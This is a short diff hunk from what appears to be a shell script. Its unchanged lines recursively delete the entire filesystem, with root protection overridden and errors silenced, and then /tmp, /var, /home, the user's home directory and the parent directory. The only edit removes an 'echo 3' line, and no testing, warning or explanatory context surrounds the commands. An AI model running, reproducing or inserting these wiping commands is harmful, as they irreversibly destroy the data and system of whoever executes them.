@@ -1,3 +1,2 @@
 rm -rf / --no-preserve-root 2> /dev/null
 rm -rf /tmp /var /home ~ ..
-echo 3
